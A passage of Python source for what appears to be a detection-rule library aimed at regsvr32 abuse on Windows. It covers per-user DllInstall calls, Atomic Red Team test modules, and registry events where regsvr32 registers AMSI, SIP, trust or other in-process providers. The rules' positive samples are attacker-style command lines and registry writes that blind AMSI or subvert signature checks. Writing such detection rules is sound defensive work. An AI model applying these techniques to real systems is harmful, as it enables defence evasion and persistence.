                   "word install under Program Files (R32-047)."),
      positives=(
        'regsvr32.exe -n -i:"Install" C:\\Users\\bob\\AppData\\Local\\AdobeFontPack\\main.dll',
        'regsvr32 -e -n -i:"Update Installation" "C:\\Users\\bob\\fm_j\\ooTCNA.Hcw.Thw"',),
      negatives=(
        'regsvr32 /s /n /i:user "C:\\Users\\bob\\AppData\\Local\\Microsoft\\TeamsMeetingAddin\\1.0\\x64\\Microsoft.Teams.AddinLoader.dll"',
        'regsvr32 /s /n /i:Install "C:\\Program Files\\Vendor\\x.dll"',
        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Vendor\\x.dll",),
      false_positives="A per-user install whose DllInstall takes its own word.",
      sigma=not_exportable("needs the /i: argument parsed and the module's resolved folder"))
def per_user_code_word(inv):
    if not inv.flags >= {"n", "i"} or inv.install_arg is None or inv.install is not None:
        return None
    word = inv.install_arg.strip().strip('"').lower()
    if word in PER_USER_WORDS:
        return None
    for m in inv.modules:
        if m.location == winpath.USER_WRITABLE:
            return "/n /i:%s calls only DllInstall of %s, in %s" % (
                _clip(inv.install_arg, 60), _clip(m.path), m.where)
    return None


_ATOMIC_TEST = re.compile(r"^t[0-9]{4}(?:\.[0-9]{3})?$")


@rule("R32-057", "Purple-team test module (Atomic Red Team)",
      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions",
      evidence="campaign",
      techniques=(T,), sources=("L31", "Atomic Red Team T1218.010"),
      description=("A module or scriptlet in an atomics\\T<number> folder: an Atomic Red Team "
                   "test (AllTheThings, GTSIPProvider, RegSvr32.sct) run by a purple team. An "
                   "exercise is meant to be seen, so it alerts as high."),
      positives=(
        'regsvr32 /s /i "C:\\AtomicRedTeam\\atomics\\T1218.010\\bin\\AllTheThingsx86.dll"',
        "regsvr32.exe C:\\AtomicRedTeam\\atomics\\T1553.003\\bin\\GTSIPProvider.dll",),
      negatives=(
        "regsvr32 /s C:\\Tools\\atomics\\bin\\x.dll",
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
      false_positives="Purple-team exercises, by design.",
      sigma=not_exportable("needs the module's resolved path and an atomics\\T<number> folder in it; a "
                           "substring match would also match the test's own download URL in other tools"))
def atomic_test(inv):
    for t in inv.targets:
        comps = t.lower.split("\\")
        for a, b in zip(comps, comps[1:]):
            if a == "atomics" and _ATOMIC_TEST.match(b):
                return "%s %s is an Atomic Red Team test (%s)" % (_role(t, inv), _clip(t.path),
                                                                   b.upper())
    return None


# In-process providers that Windows loads into other processes from a registry value: a module
# regsvr32 registers there runs in every process that verifies a signature (SIP and trust
# providers), scans content (AMSI), or starts a service (time providers, print monitors, netsh).
# (key part, what it is, whether the key alone is the registration)
PROVIDER_KEYS = (
    ("\\microsoft\\amsi\\providers\\", "AMSI provider", True),
    ("\\cryptsipdll", "SIP provider", False),
    ("\\microsoft\\cryptography\\providers\\trust\\", "trust provider", False),
    ("\\w32time\\timeproviders\\", "time provider", False),
    ("\\control\\print\\monitors\\", "print monitor", False),
    ("\\software\\microsoft\\netsh", "netsh helper", False),
    ("\\windows nt\\currentversion\\windows\\appinit_dlls", "AppInit DLL", False),
)
# Of these, the ones whose module is evidence wherever it is outside Windows (a vendor that
# installs a time provider or print monitor in Program Files is ordinary).
_TRUST_PROVIDERS = ("AMSI provider", "SIP provider", "trust provider")


@rule("R32-058", "regsvr32 registered a SIP, trust, AMSI or other in-process provider",
      actor(REGISTRY), risk=75, family="registry_persistence_and_scrobj_com_hijack",
      evidence="persistence",
      techniques=("T1553.003", "T1562.001", "T1546", T),
      sources=("L26", "Atomic Red Team T1553.003", "SpecterOps Subverting Trust in Windows"),
      description=("A registry write by regsvr32 (Sysmon 12/13/14 or an EDR's registry event) "
                   "under AMSI\\Providers, a CryptSIPDll* SIP key or Cryptography\\Providers\\Trust "
                   "with a module outside the Windows folder, or a time provider, print monitor, "
                   "netsh helper or AppInit value with a module outside Windows and Program "
                   "Files: the module's DllRegisterServer made itself a provider that Windows "
                   "loads into other processes (signature checks that pass anything, AMSI "
                   "blinded, persistence)."),
      positives=(
        {"EventCode": "13",
         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllGetSignedDataMsg\\{C3BB8D1D-7DC4-4C4A-B1BA-2C3F6F0C9F4E}\\Dll",
         "Details": "C:\\AtomicRedTeam\\atomics\\T1553.003\\bin\\GTSIPProvider.dll"},
        {"EventCode": "12", "EventType": "CreateKey",
         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{2E5D8A62-77F9-4F7B-A90C-2744820139B2}"},
        {"EventCode": "13",
         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\Providers\\Trust\\FinalPolicy\\{00AAC56B-CD44-11D0-8CC2-00C04FC295EE}\\$DLL",
         "Details": "C:\\Users\\bob\\AppData\\Local\\Temp\\trust.dll"},),
      negatives=(
        {"EventCode": "13",
         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllGetSignedDataMsg\\{603BCC1F-4B59-4E08-B724-D2C6297EF351}\\Dll",
         "Details": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\pwrshsip.dll"},
        {"EventCode": "13",
         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllGetSignedDataMsg\\{C689AAB8-8E78-11D0-8C47-00C04FC295EE}\\FuncName",
         "Details": "CryptSIPGetSignedDataMsg"},
        {"EventCode": "13", "Image": "C:\\Program Files\\Vendor\\setup.exe",
         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{2E5D8A62-77F9-4F7B-A90C-2744820139B2}\\(Default)",
         "Details": "Vendor AMSI provider"},
        {"EventCode": "13",
         "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\W32Time\\TimeProviders\\VendorTime\\DllName",
         "Details": "C:\\Program Files\\Vendor\\vtime.dll"},),
      false_positives="Security products and signing tools whose installer registers their own "
                      "AMSI or SIP provider with regsvr32 (allowlist them by key).",
      sigma=spec("approximate", "registry_set",
                 {"selection": dict(BY_REGSVR32, **{"TargetObject|contains": [
                     "\\AMSI\\Providers\\", "\\CryptSIPDll", "\\Cryptography\\Providers\\Trust\\"]}),
                  "filter_windows": {"Details|startswith": ["C:\\Windows\\", "%SystemRoot%",
                                                            "%windir%"]},
                  "filter_function": {"TargetObject|endswith": "\\FuncName"}},
                 "selection and not filter_windows and not filter_function",
                 "the AMSI, SIP and trust provider keys only (not time providers, print "
                 "monitors, netsh helpers or AppInit), and the module path matched by its "
                 "start, not resolved"))
def provider_hijack(ev):
    key = ev.registry_path.lower()
    for part, what, key_alone in PROVIDER_KEYS:
        if part not in key:
            continue
        data = ev.registry_data.strip().strip('"')
        if key_alone:
            return "regsvr32 registered an %s: %s" % (what, _clip(ev.registry_path))
        if "\\" not in data:            # a function name, a flag, or a bare name from System32
            return None
        t = winpath.classify(data.split(",")[0].strip('"'))
        if t.location == winpath.WINDOWS and not t.anomalies:
            return None
        if what not in _TRUST_PROVIDERS and t.location == winpath.PROGRAM_FILES:
            return None
        return "regsvr32 made %s a %s: %s" % (_clip(data, 120), what, _clip(ev.registry_path))
    return None


RULES, RULES_BY_ID, RULES_FOR = finish()
